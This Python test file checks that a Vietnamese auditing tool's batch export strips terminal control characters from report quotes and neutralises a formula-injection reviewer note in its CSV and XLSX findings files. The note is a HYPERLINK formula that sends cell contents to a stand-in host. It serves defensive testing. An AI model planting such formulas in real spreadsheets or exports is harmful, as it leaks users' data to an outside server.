"""The findings exports through a real batch: a report carrying control characters and an auditor's note
beginning with "=" leave findings.xlsx rewritten and findings.csv without a cell a spreadsheet would run;
an export that cannot be written fails the run in one line and leaves no stale file."""
from __future__ import annotations

import csv
import json

from openpyxl import load_workbook

from conftest import copy_project
from helpers import runs_in_a_spreadsheet
from wardaudit.batch.local import run_batch
from wardaudit.review.decisions import decide
from wardaudit.run.portfolio.exports import SHEET_FINDINGS

NOTE = '=HYPERLINK("http://x.invalid/?d="&A1,"xem")'


def test_control_characters_and_a_formula_note_through_the_batch(tmp_path, monkeypatch, capsys):
    paths = copy_project(tmp_path, ("phu-thinh",))
    monkeypatch.setenv("WARDAUDIT_ROOT", str(paths.root))
    report = next(paths.ward_raw("phu-thinh").iterdir())
    lines = report.read_text(encoding="utf-8").split("\n")
    assert lines[4].startswith("Phú Thịnh, ngày")  # the date line: META002 quotes it
    lines[4] = lines[4].replace("Thịnh,", "Thịnh\x1b[2J\x07,")
    report.write_text("\n".join(lines), encoding="utf-8")

    assert run_batch(wards=["phu-thinh"], jobs=1, quiet=True, paths=paths) == 0
    assert "2 control characters removed" in capsys.readouterr().err  # ESC and BEL of the quoted line
    xlsx = paths.reports / "findings.xlsx"
    first = xlsx.read_bytes()
    doc = json.loads((paths.ward_processed("phu-thinh") / "findings.json").read_text(encoding="utf-8"))
    dated = next(c["id"] for c in doc["checks"] if c["status"] == "fail" and c["rule"] == "META002")
    decide("phu-thinh", dated, "query", NOTE, by="Kiểm toán viên", paths=paths)

    assert run_batch(wards=["phu-thinh"], jobs=1, quiet=True, paths=paths) == 0
    assert xlsx.read_bytes() != first  # rewritten with the decision
    assert paths.ward_letter("phu-thinh").exists()  # the letter quotes the line, without its controls
    assert (paths.reports / "findings.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    rows = list(csv.DictReader((paths.reports / "findings.csv").open(encoding="utf-8-sig")))
    assert not [v for r in rows for v in r.values() if v and runs_in_a_spreadsheet(v)]
    row = next(r for r in rows if r["id"] == dated)
    assert row["review_note"] == "'" + NOTE and row["quote"].startswith("Phú Thịnh[2J,")
    sheet = load_workbook(xlsx)["Phát hiện"]
    cells = next(dict(zip(SHEET_FINDINGS, r, strict=True)) for r in sheet.iter_rows(min_row=2)
                 if r[SHEET_FINDINGS.index("id")].value == dated)
    assert cells["review_note"].value == NOTE and cells["review_note"].data_type == "s"
    assert "\x1b" not in cells["quote"].value and "\x07" not in cells["quote"].value

    # an export that cannot be written: the run fails in one line and the old CSV goes
    xlsx.unlink()
    xlsx.mkdir()
    (xlsx / "keep").write_text("x", encoding="utf-8")
    assert run_batch(wards=["phu-thinh"], jobs=1, quiet=True, paths=paths, force=True) == 1
    err = [line for line in capsys.readouterr().err.splitlines() if line.startswith("index:")]
    assert len(err) == 1 and "reports/findings.xlsx" in err[0] and "could not be written" in err[0]
    assert not (paths.reports / "findings.csv").exists()
